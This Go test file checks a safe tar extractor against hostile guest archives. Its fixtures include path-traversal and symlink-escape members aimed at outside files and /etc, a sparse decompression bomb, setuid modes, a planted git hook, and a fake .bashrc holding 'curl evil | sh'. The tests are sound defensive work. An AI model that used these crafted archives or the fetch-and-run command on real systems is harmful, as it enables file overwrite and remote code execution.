package safetar

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	goruntime "runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"
	"time"
)

type member struct {
	name, link string
	typ        byte
	mode       int64
	data       string
	pax        map[string]string
}

func writeMembers(t testing.TB, w io.Writer, ms ...member) {
	tw := tar.NewWriter(w)
	for _, m := range ms {
		h := &tar.Header{Name: m.name, Linkname: m.link, Typeflag: m.typ, Mode: m.mode, Size: int64(len(m.data)),
			ModTime: time.Unix(1700000000, 0), PAXRecords: m.pax}
		if m.typ != tar.TypeReg {
			h.Size = 0
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			tw.Write([]byte(m.data))
		}
	}
	tw.Close()
}

func mkTar(t testing.TB, ms ...member) []byte {
	var b bytes.Buffer
	writeMembers(t, &b, ms...)
	return b.Bytes()
}

// snapshot lists every path below dir with its type, mode, size and
// content or link target: two snapshots are equal when nothing changed.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			out = append(out, p+" error "+err.Error())
			return nil
		}
		fi, _ := d.Info()
		rel, _ := filepath.Rel(dir, p)
		line := rel + " " + fi.Mode().String()
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			line += " -> " + l
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			line += " " + string(b)
		}
		out = append(out, line)
		return nil
	})
	sort.Strings(out)
	return strings.Join(out, "\n")
}

// hostileDir returns dest (an existing dir holding a file and a
// directory) inside a base dir with a sentinel beside it, and a check that
// nothing outside dest changed.
func hostileDir(t *testing.T) (dest string, check func()) {
	base := t.TempDir()
	dest = filepath.Join(base, "dest")
	os.Mkdir(dest, 0o755)
	outside := filepath.Join(base, "outside")
	os.Mkdir(outside, 0o755)
	os.WriteFile(filepath.Join(outside, "keep"), []byte("keep"), 0o644)
	before := snapshot(t, outside)
	return dest, func() {
		t.Helper()
		ents, _ := os.ReadDir(base)
		if len(ents) != 2 {
			t.Errorf("something was written beside dest: %v", ents)
		}
		if after := snapshot(t, outside); after != before {
			t.Errorf("outside changed:\n%s\nwas:\n%s", after, before)
		}
	}
}

// is reports whether err is (or wraps) kind.
func is(err, kind error) bool { return err != nil && errors.Is(err, kind) }

func TestExtractRefusesHostileStreams(t *testing.T) {
	cases := []struct {
		name string
		ms   []member
		kind error
	}{
		{"absolute", []member{{name: "/etc/passwd", typ: tar.TypeReg, data: "x"}}, ErrUnsafe},
		{"dotdot", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/../../outside/keep", typ: tar.TypeReg, data: "pwned"}}, ErrUnsafe},
		{"dotdot-top", []member{{name: "../outside/keep", typ: tar.TypeReg, data: "pwned"}}, ErrUnsafe},
		{"symlink-then-write", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/x", typ: tar.TypeSymlink, link: "../../outside"},
			{name: "t/x/keep", typ: tar.TypeReg, data: "pwned"}}, ErrUnsafe},
		{"abs-symlink-then-write", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/x", typ: tar.TypeSymlink, link: "/tmp"},
			{name: "t/x/pwned", typ: tar.TypeReg, data: "pwned"}}, ErrUnsafe},
		{"symlink-dir-swap", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/d", typ: tar.TypeSymlink, link: "sub"},
			{name: "t/sub/", typ: tar.TypeDir}, {name: "t/d/f", typ: tar.TypeReg, data: "x"}}, ErrUnsafe},
		{"symlink-as-dir", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/d", typ: tar.TypeSymlink, link: "."},
			{name: "t/d/", typ: tar.TypeDir}}, ErrUnsafe},
		{"top-symlink-then-write", []member{{name: "t", typ: tar.TypeSymlink, link: "../outside"},
			{name: "t/keep", typ: tar.TypeReg, data: "pwned"}}, ErrUnsafe},
		{"two-tops", []member{{name: "a", typ: tar.TypeReg, data: "1"}, {name: "b", typ: tar.TypeReg, data: "2"}}, ErrUnsafe},
		{"long", []member{{name: "t/" + strings.Repeat("a", MaxNameBytes), typ: tar.TypeReg, data: "1"}}, ErrUnsafe},
		{"dir-over-file", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/f", typ: tar.TypeReg, data: "1"}, {name: "t/f/", typ: tar.TypeDir}}, syscall.ENOTDIR},
		{"file-over-dir", []member{{name: "t/", typ: tar.TypeDir}, {name: "t/d/", typ: tar.TypeDir}, {name: "t/d", typ: tar.TypeReg, data: "1"}}, syscall.EISDIR},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dest, check := hostileDir(t)
			_, err := Extract(bytes.NewReader(mkTar(t, c.ms...)), dest, Options{Name: "t"})
			if !is(err, c.kind) {
				t.Errorf("got %v, want %v", err, c.kind)
			}
			if ents, _ := os.ReadDir(dest); len(ents) != 0 {
				t.Errorf("a refused stream left %v in dest", ents)
			}
			check()
		})
	}
}

// The guest names its top-level member ".bashrc" or ".git": it still lands
// under the one name the host asked for, and nothing else in the
// destination changes.
func TestCpOutMemberOutsideRequestedName(t *testing.T) {
	dest, check := hostileDir(t)
	os.WriteFile(filepath.Join(dest, ".bashrc"), []byte("mine"), 0o644)
	os.MkdirAll(filepath.Join(dest, ".git", "hooks"), 0o755)
	before := snapshot(t, dest)
	for _, ms := range [][]member{
		{{name: ".bashrc", typ: tar.TypeReg, data: "curl evil | sh"}},
		{{name: ".git/", typ: tar.TypeDir, mode: 0o777}, {name: ".git/hooks/", typ: tar.TypeDir},
			{name: ".git/hooks/pre-commit", typ: tar.TypeReg, mode: 0o755, data: "evil"}},
	} {
		st, err := Extract(bytes.NewReader(mkTar(t, ms...)), dest, Options{Name: "out"})
		if err != nil {
			t.Fatal(err)
		}
		if st.Root != filepath.Join(dest, "out") {
			t.Errorf("root %s", st.Root)
		}
		os.RemoveAll(filepath.Join(dest, "out"))
		if after := snapshot(t, dest); after != before {
			t.Errorf("the destination changed outside out:\n%s\nwas:\n%s", after, before)
		}
	}
	check()
}

func TestCpOutModesClamped(t *testing.T) {
	tb := mkTar(t,
		member{name: "t/", typ: tar.TypeDir, mode: 0o1777},
		member{name: "t/suid", typ: tar.TypeReg, mode: 0o4777, data: "x"},
		member{name: "t/sgid", typ: tar.TypeReg, mode: 0o2775, data: "x"},
		member{name: "t/ro/", typ: tar.TypeDir, mode: 0o555},
		member{name: "t/ro/f", typ: tar.TypeReg, mode: 0o400, data: "x"},
		member{name: "t/gw/", typ: tar.TypeDir, mode: 0o2770},
	)
	want := map[string]fs.FileMode{"": fs.ModeDir | 0o755, "suid": 0o755, "sgid": 0o755,
		"ro": fs.ModeDir | 0o755, "ro/f": 0o400, "gw": fs.ModeDir | 0o750}
	keep := map[string]fs.FileMode{"": fs.ModeDir | fs.ModeSticky | 0o777, "suid": fs.ModeSetuid | 0o777,
		"sgid": fs.ModeSetgid | 0o775, "ro": fs.ModeDir | 0o555, "ro/f": 0o400, "gw": fs.ModeDir | fs.ModeSetgid | 0o770}
	for _, c := range []struct {
		o    Options
		want map[string]fs.FileMode
	}{{Options{Name: "t"}, want}, {Options{KeepModes: true}, keep}} {
		dest := t.TempDir()
		if _, err := Extract(bytes.NewReader(mkTar(t, member{name: "x", typ: tar.TypeReg, data: "x"})), filepath.Join(dest, "x"), c.o); err != nil {
			t.Fatal(err)
		}
		// Once into a new name, once merged into the existing tree.
		for i := 0; i < 2; i++ {
			if _, err := Extract(bytes.NewReader(tb), dest, c.o); err != nil {
				t.Fatal(err)
			}
			for p, m := range c.want {
				fi, err := os.Lstat(filepath.Join(dest, "t", p))
				if err != nil || fi.Mode() != m {
					t.Errorf("keep=%v pass %d: %q: mode %v %v, want %v", c.o.KeepModes, i, p, fi.Mode(), err, m)
				}
			}
		}
		os.Chmod(filepath.Join(dest, "t", "ro"), 0o755)
	}
}

func TestCpOutFailureRemovesWhatItCreated(t *testing.T) {
	hostile := member{name: "out/../../outside/keep", typ: tar.TypeReg, data: "pwned"}
	for _, c := range []struct {
		name    string
		prepare func(dest string)
	}{
		{"new", func(string) {}},
		{"merge", func(dest string) {
			os.MkdirAll(filepath.Join(dest, "out", "old"), 0o750)
			os.WriteFile(filepath.Join(dest, "out", "keep"), []byte("mine"), 0o600)
			os.WriteFile(filepath.Join(dest, "sibling"), []byte("mine"), 0o600)
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			dest, check := hostileDir(t)
			c.prepare(dest)
			before := snapshot(t, dest)
			tb := mkTar(t, member{name: "out/", typ: tar.TypeDir, mode: 0o777},
				member{name: "out/new/", typ: tar.TypeDir}, member{name: "out/new/f", typ: tar.TypeReg, data: "planted"},
				member{name: "out/keep", typ: tar.TypeReg, data: "replaced"}, member{name: "out/l", typ: tar.TypeSymlink, link: "/etc"},
				hostile)
			if _, err := Extract(bytes.NewReader(tb), dest, Options{Name: "out"}); !is(err, ErrUnsafe) {
				t.Fatalf("hostile stream: %v", err)
			}
			if after := snapshot(t, dest); after != before {
				t.Errorf("a failed copy changed the destination:\n%s\nwas:\n%s", after, before)
			}
			// A stream cut short (the guest died) is a failure too.
			if _, err := Extract(bytes.NewReader(tb[:len(tb)-2048]), dest, Options{Name: "out"}); err == nil {
				t.Fatal("a truncated stream was accepted")
			}
			if after := snapshot(t, dest); after != before {
				t.Errorf("a truncated copy changed the destination:\n%s\nwas:\n%s", after, before)
			}
			// The sender fails after the last member (a late agent error,
			// an interrupt): the copy fails and leaves nothing.
			good := mkTar(t, member{name: "out/", typ: tar.TypeDir}, member{name: "out/new", typ: tar.TypeReg, data: "planted"})
			late := io.MultiReader(bytes.NewReader(good), iotest.ErrReader(errors.New("agent failed late")))
			if _, err := Extract(late, dest, Options{Name: "out"}); err == nil || !strings.Contains(err.Error(), "agent failed late") {
				t.Fatalf("a late sender error: %v", err)
			}
			if after := snapshot(t, dest); after != before {
				t.Errorf("a copy whose sender failed late changed the destination:\n%s\nwas:\n%s", after, before)
			}
			check()
		})
	}
}

// sparseTar is a PAX (GNU 1.0) sparse member: a few hundred bytes of
// archive that expand to realSize bytes of zeros when read naively.
func sparseTar(t *testing.T, realSize int64) []byte {
	m := []byte("1\n" + "0\n" + "512\n")
	data := append(m, make([]byte, 512-len(m))...)
	data = append(data, bytes.Repeat([]byte{'A'}, 512)...)
	// archive/tar will not write GNU.sparse records: write a same-length
	// placeholder key and rename it in the bytes.
	tb := mkTar(t, member{name: "t/", typ: tar.TypeDir}, member{name: "t/bomb", typ: tar.TypeReg, data: string(data),
		pax: map[string]string{"GNU.sparsX.major": "1", "GNU.sparsY.minor": "0", "GNU.sparsZ.realsize": strconv.FormatInt(realSize, 10)}})
	for _, k := range []string{"X", "Y", "Z"} {
		tb = bytes.Replace(tb, []byte("GNU.spars"+k+"."), []byte("GNU.sparse."), 1)
	}
	return tb
}

func TestCpOutSparseBomb(t *testing.T) {
	tb := sparseTar(t, 64<<20)
	if len(tb) > 10<<10 {
		t.Fatalf("the bomb is %d bytes", len(tb))
	}
	// The stream really is a sparse member that reads as 64 MiB.
	tr := tar.NewReader(bytes.NewReader(tb))
	tr.Next()
	if h, _ := tr.Next(); h == nil || h.Size != 64<<20 || !isSparse(h) {
		t.Fatalf("not a sparse member: %+v", h)
	}
	dest, check := hostileDir(t)
	_, err := Extract(bytes.NewReader(tb), dest, Options{Name: "t"})
	if !is(err, ErrUnsafe) {
		t.Errorf("sparse member: %v, want a refusal", err)
	}
	if ents, _ := os.ReadDir(dest); len(ents) != 0 {
		t.Errorf("left %v", ents)
	}
	check()
}

// dirStream writes n directory members with long names to a pipe, and
// records the live heap (after a GC) every 5,000 members, while the
// extractor holds whatever it keeps.
func dirStream(t *testing.T, n int) (io.Reader, func() uint64) {
	pr, pw := io.Pipe()
	var peak uint64
	done := make(chan struct{})
	go func() {
		defer close(done)
		tw := tar.NewWriter(pw)
		pad := strings.Repeat("d", 200)
		tw.WriteHeader(&tar.Header{Name: "t/", Typeflag: tar.TypeDir, Mode: 0o755})
		var ms goruntime.MemStats
		for i := 0; i < n; i++ {
			if err := tw.WriteHeader(&tar.Header{Name: "t/" + pad + strconv.Itoa(i) + "/", Typeflag: tar.TypeDir, Mode: 0o755}); err != nil {
				pw.CloseWithError(err)
				return
			}
			if i%5000 == 4999 {
				tw.Flush()
				goruntime.GC()
				goruntime.ReadMemStats(&ms)
				peak = max(peak, ms.HeapAlloc)
			}
		}
		pw.CloseWithError(tw.Close())
	}()
	return pr, func() uint64 { <-done; return peak }
}

func TestCpOutManyDirsBoundedMemory(t *testing.T) {
	const n = 20000
	var ms goruntime.MemStats
	goruntime.GC()
	goruntime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	r, peak := dirStream(t, n)
	dest := t.TempDir()
	st, err := Extract(r, dest, Options{Name: "t"})
	if err != nil {
		t.Fatal(err)
	}
	p := peak()
	if st.Dirs != n+1 {
		t.Errorf("dirs %d", st.Dirs)
	}
	grew := int64(p) - int64(base)
	t.Logf("live heap grew by %d KiB over %d directory members", grew>>10, n)
	if grew > 2<<20 {
		t.Errorf("live heap grew by %d MiB while extracting %d directories: memory must not grow with the member count", grew>>20, n)
	}
}

func TestCpOutAbsoluteSymlinkCopiedAsLink(t *testing.T) {
	dest, check := hostileDir(t)
	links := map[string]string{"venv/bin/python": "/usr/bin/python3", "passwd": "/etc/passwd",
		"up": "../../outside", "dot": ".", "loop": "loop", "esc": "dot/../../.."}
	ms := []member{{name: "t/", typ: tar.TypeDir}, {name: "t/venv/bin/", typ: tar.TypeDir}}
	for p, l := range links {
		ms = append(ms, member{name: "t/" + p, typ: tar.TypeSymlink, link: l})
	}
	st, err := Extract(bytes.NewReader(mkTar(t, ms...)), dest, Options{Name: "t"})
	if err != nil {
		t.Fatal(err)
	}
	if st.Symlinks != int64(len(links)) {
		t.Errorf("stats %+v", st)
	}
	for p, l := range links {
		got, err := os.Readlink(filepath.Join(dest, "t", p))
		if err != nil || got != l {
			t.Errorf("%s: %q %v, want a link to %q", p, got, err, l)
		}
	}
	// A top-level symlink is a symlink too, and replaces a link there.
	os.Symlink("/old", filepath.Join(dest, "top"))
	if _, err := Extract(bytes.NewReader(mkTar(t, member{name: "x", typ: tar.TypeSymlink, link: "/etc"})), dest, Options{Name: "top"}); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.Readlink(filepath.Join(dest, "top")); got != "/etc" {
		t.Errorf("top-level link %q", got)
	}
	check()
}

func TestExtractStripsAndSkips(t *testing.T) {
	dest, check := hostileDir(t)
	tb := mkTar(t,
		member{name: "t/", typ: tar.TypeDir},
		member{name: "t/f", typ: tar.TypeReg, data: "x"},
		member{name: "t/hard", typ: tar.TypeLink, link: "../../outside/keep"},
		member{name: "t/dev", typ: tar.TypeChar},
		member{name: "t/fifo", typ: tar.TypeFifo},
		member{name: "t/ok", typ: tar.TypeSymlink, link: "f"},
	)
	st, err := Extract(bytes.NewReader(tb), dest, Options{Name: "t"})
	if err != nil {
		t.Fatal(err)
	}
	if st.Skipped != 3 || st.Files != 1 || st.Symlinks != 1 || st.Dirs != 1 {
		t.Errorf("stats %+v", st)
	}
	ents, _ := os.ReadDir(filepath.Join(dest, "t"))
	if len(ents) != 2 {
		t.Errorf("entries %v", ents)
	}
	check()
}

func TestExtractCaps(t *testing.T) {
	dest, check := hostileDir(t)
	tb := mkTar(t, member{name: "t/", typ: tar.TypeDir}, member{name: "t/a", typ: tar.TypeReg, data: strings.Repeat("x", 100)})
	if _, err := Extract(bytes.NewReader(tb), dest, Options{Name: "t", MaxBytes: 50}); !is(err, ErrTooLarge) {
		t.Errorf("MaxBytes: %v", err)
	}
	if _, err := Extract(bytes.NewReader(tb), filepath.Join(dest, "n"), Options{MaxMembers: 1}); !is(err, ErrTooLarge) {
		t.Errorf("MaxMembers: %v", err)
	}
	deep := "t/" + strings.Repeat("d/", MaxDepth)
	if _, err := Extract(bytes.NewReader(mkTar(t, member{name: deep, typ: tar.TypeDir})), dest, Options{Name: "t"}); !is(err, ErrTooLarge) {
		t.Errorf("MaxDepth: %v", err)
	}
	if ents, _ := os.ReadDir(dest); len(ents) != 0 {
		t.Errorf("left %v", ents)
	}
	if _, err := Extract(bytes.NewReader(tb), dest, Options{Name: "../x"}); !is(err, syscall.EINVAL) {
		t.Errorf("bad name: %v", err)
	}
	if _, err := Extract(bytes.NewReader(nil), dest, Options{Name: "t"}); !is(err, syscall.ENOENT) {
		t.Errorf("empty: %v", err)
	}
	check()
}

// A tree whose type differs from what is in the destination is refused
// before anything moves.
func TestExtractConflictsLeaveDestination(t *testing.T) {
	dest, check := hostileDir(t)
	os.MkdirAll(filepath.Join(dest, "t", "a"), 0o755)
	os.WriteFile(filepath.Join(dest, "t", "a", "x"), []byte("mine"), 0o644)
	os.WriteFile(filepath.Join(dest, "t", "z"), []byte("mine"), 0o644)
	before := snapshot(t, dest)
	for _, c := range []struct {
		ms   []member
		kind error
	}{
		{[]member{{name: "t", typ: tar.TypeReg, data: "f"}}, syscall.EISDIR},
		{[]member{{name: "t/", typ: tar.TypeDir}, {name: "t/a/", typ: tar.TypeDir}, {name: "t/a/x", typ: tar.TypeReg, data: "new"},
			{name: "t/z/", typ: tar.TypeDir}}, syscall.ENOTDIR},
		{[]member{{name: "t/", typ: tar.TypeDir}, {name: "t/b", typ: tar.TypeReg, data: "new"}, {name: "t/a", typ: tar.TypeSymlink, link: "."}}, syscall.EISDIR},
	} {
		if _, err := Extract(bytes.NewReader(mkTar(t, c.ms...)), dest, Options{Name: "t"}); !is(err, c.kind) {
			t.Errorf("got %v, want %v", err, c.kind)
		}
		if after := snapshot(t, dest); after != before {
			t.Errorf("a refused copy changed the destination:\n%s\nwas:\n%s", after, before)
		}
	}
	check()
}

func TestTarRoundTrip(t *testing.T) {
	src := filepath.Join(t.TempDir(), "src")
	os.MkdirAll(filepath.Join(src, "sub", "deep"), 0o755)
	os.WriteFile(filepath.Join(src, "exec.sh"), []byte("#!/bin/sh\n"), 0o750)
	os.WriteFile(filepath.Join(src, "sub", "deep", "f"), bytes.Repeat([]byte{1, 2, 3}, 70000), 0o600)
	os.WriteFile(filepath.Join(src, "empty"), nil, 0o644)
	os.Symlink("exec.sh", filepath.Join(src, "rel"))
	os.Symlink("../exec.sh", filepath.Join(src, "sub", "up"))
	os.Symlink("/etc/passwd", filepath.Join(src, "abs"))
	os.Chmod(filepath.Join(src, "sub"), 0o711)
	mtime := time.Unix(1600000000, 0)
	os.Chtimes(filepath.Join(src, "sub", "deep", "f"), mtime, mtime)
	os.Chtimes(filepath.Join(src, "sub"), mtime, mtime)
	var b bytes.Buffer
	if _, err := Write(&b, src); err != nil {
		t.Fatal(err)
	}
	// "as": a destination that does not exist takes the tree's place.
	dst := filepath.Join(t.TempDir(), "copy")
	st, err := Extract(bytes.NewReader(b.Bytes()), dst, Options{Name: "src"})
	if err != nil {
		t.Fatal(err)
	}
	if st.Root != dst || st.Files != 3 || st.Symlinks != 3 || st.Dirs != 3 {
		t.Errorf("stats %+v", st)
	}
	for _, c := range []struct {
		p    string
		mode os.FileMode
	}{{"exec.sh", 0o750}, {"sub", 0o711 | os.ModeDir}, {"sub/deep/f", 0o600}, {"rel", os.ModeSymlink | 0o777}} {
		fi, err := os.Lstat(filepath.Join(dst, c.p))
		if err != nil || fi.Mode() != c.mode {
			t.Errorf("%s: %v %v, want %v", c.p, fi.Mode(), err, c.mode)
		}
	}
	for _, p := range []string{"sub", "sub/deep/f"} {
		if fi, _ := os.Lstat(filepath.Join(dst, p)); !fi.ModTime().Equal(mtime) {
			t.Errorf("%s: mtime %v, want %v", p, fi.ModTime(), mtime)
		}
	}
	if l, _ := os.Readlink(filepath.Join(dst, "sub", "up")); l != "../exec.sh" {
		t.Errorf("symlink target %q", l)
	}
	if l, _ := os.Readlink(filepath.Join(dst, "abs")); l != "/etc/passwd" {
		t.Errorf("symlink target %q", l)
	}
	// "into": an existing directory receives the tree under the name
	// asked for, and a second copy replaces files in place.
	into := t.TempDir()
	for i := 0; i < 2; i++ {
		if st, err = Extract(bytes.NewReader(b.Bytes()), into, Options{Name: "src"}); err != nil {
			t.Fatal(err)
		}
	}
	if st.Root != filepath.Join(into, "src") {
		t.Errorf("root %s", st.Root)
	}
	got, _ := os.ReadFile(filepath.Join(into, "src", "sub", "deep", "f"))
	if !bytes.Equal(got, bytes.Repeat([]byte{1, 2, 3}, 70000)) {
		t.Error("content differs")
	}
	if ents, _ := os.ReadDir(into); len(ents) != 1 {
		t.Errorf("staging left behind: %v", ents)
	}
	// A trusted stream (no Name) keeps its own top-level name.
	if st, err = Extract(bytes.NewReader(b.Bytes()), into, Options{KeepModes: true}); err != nil || st.Root != filepath.Join(into, "src") {
		t.Errorf("no name: %v %+v", err, st)
	}
}

func FuzzExtract(f *testing.F) {
	f.Add(mkTar(f, member{name: "t/", typ: tar.TypeDir}, member{name: "t/a", typ: tar.TypeReg, data: "x"}))
	f.Add(mkTar(f, member{name: "t/l", typ: tar.TypeSymlink, link: "../x"}))
	f.Add(mkTar(f, member{name: "t/l", typ: tar.TypeSymlink, link: "/"}, member{name: "t/l/x", typ: tar.TypeReg, data: "x"}))
	f.Fuzz(func(t *testing.T, b []byte) {
		dest, check := hostileDir(t)
		if _, err := Extract(bytes.NewReader(b), dest, Options{Name: "t", MaxBytes: 1 << 20}); err != nil {
			if ents, _ := os.ReadDir(dest); len(ents) != 0 {
				t.Errorf("a failed extraction left %v", ents)
			}
		}
		check()
	})
}
